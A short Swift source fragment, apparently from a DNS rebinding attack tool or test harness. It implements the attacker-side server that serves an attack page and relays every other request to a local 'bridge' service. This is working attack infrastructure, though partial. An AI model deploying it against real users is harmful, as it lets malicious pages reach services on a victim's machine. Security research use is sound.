/// A name that has served the attacker's page and then means this machine (DNS rebinding): what asks for a page is answered
/// by the attacker, all the rest goes to the bridge as it is.
struct ReboundName: Sendable {
  private static let connectTime = Duration.seconds(5)
  private static let requestTime = Duration.seconds(10)

  let server: PageServer
  let bridge: HostPort

  func serve(_ stream: TCPStream) {
    guard let request = try? IncomingRequest.read(from: stream, within: Self.requestTime) else { return }
    if request.head.path.hasPrefix(AttackPage.pathPrefix) { return server.serve(request, on: stream) }
    // Where the bridge has gone there is nobody to reach; the run notices by itself.
    guard let onward = try? TCPStream.connect(to: bridge, within: Self.connectTime) else { return stream.close() }
    Relay(client: stream, server: onward).run(sending: request.bytes)
  }
}
